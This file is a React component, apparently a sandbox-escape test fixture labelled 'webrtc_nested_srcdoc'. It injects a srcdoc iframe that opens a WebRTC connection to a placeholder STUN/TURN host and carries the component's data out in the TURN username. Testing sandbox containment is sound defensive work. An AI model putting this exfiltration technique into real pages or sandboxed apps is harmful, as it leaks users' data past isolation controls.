import { useEffect } from "react";

// Escape attempt: webrtc_nested_srcdoc — a srcdoc frame is a fresh realm whose WebRTC is intact
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_nested_srcdoc-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const frame = document.createElement("iframe");
      frame.srcdoc = `<script>const servers = ${JSON.stringify(servers)}; const pc = new RTCPeerConnection(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));<\/script>`;
      document.body.appendChild(frame);
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_nested_srcdoc</p>;
}
